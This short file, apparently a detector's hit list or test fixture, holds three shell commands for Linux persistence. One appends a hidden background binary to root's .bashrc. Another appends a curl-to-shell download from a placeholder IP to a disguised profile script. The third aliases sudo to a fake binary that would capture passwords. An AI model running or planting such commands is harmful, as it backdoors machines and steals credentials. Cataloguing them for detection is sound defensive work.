# SPDX-License-Identifier: Apache-2.0
# hits: 3
bash -c 'echo "nohup /tmp/.x >/dev/null 2>&1 &" >> /root/.bashrc'
sh -c 'echo "curl -s http://192.0.2.7/x | sh" >> /etc/profile.d/locale.sh'
sh -c "echo alias sudo=/home/bob/.cache/sudo | tee -a /root/.profile"
